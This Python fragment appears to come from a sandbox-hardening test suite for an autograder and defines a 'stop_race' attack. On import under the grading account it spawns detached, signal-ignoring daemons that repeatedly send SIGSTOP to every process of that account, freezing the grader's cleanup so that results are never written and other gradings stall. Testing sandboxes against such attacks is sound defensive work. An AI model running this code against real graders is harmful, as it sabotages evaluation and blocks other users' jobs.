# ---------------------------------------------------------------- attack: stop_race
# At import: two double-forked setsid() daemons of the grading account. Once the worker that started them is
# gone (the end of grading, when the runner closes its worker), each loops on kill(-1, SIGSTOP): every process
# of the account it may signal is stopped, including the grader's own clean-up helper, which forks and becomes
# the account to send kill(-1, SIGKILL). The supervisor waited for that helper for ever: no results.json, and
# the account lock held, so every other grading on the machine waited too. Each daemon records heartbeats and
# ends by itself after LIFETIME_S, so a sandbox that fails cannot leave it running for long.
def _attack_stop_race(daemons=2, lifetime_s=150.0):
    import signal

    worker = _aos.getpid()
    for number in range(daemons):
        child = _aos.fork()
        if child:
            _aos.waitpid(child, 0)
            continue
        try:
            _aos.setsid()
            if _aos.fork():
                _aos._exit(0)
            for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(sig, signal.SIG_IGN)
            start = last = _attack_now()
            while _attack_alive(worker) and _attack_now() - start < lifetime_s:
                _atime.sleep(0.002)
            _attack_record("stop_race", echo=False, event="stopping", daemon=number, after_s=round(_attack_now() - start, 2))
            sent = 0
            while _attack_now() - start < lifetime_s:
                try:
                    _aos.kill(-1, signal.SIGSTOP)
                    sent += 1
                except OSError:
                    pass
                if _attack_now() - last >= 0.25:
                    last = _attack_now()
                    _attack_record("stop_race", echo=False, event="heartbeat", daemon=number, sent=sent)
        finally:
            _aos._exit(0)
    _attack_record("stop_race", event="started", worker=worker, daemons=daemons)


if _attack_is_student() and _attack_in_worker():
    _attack_stop_race()
elif not _attack_is_student():
    _attack_record("stop_race", skipped="not running as the grading account")
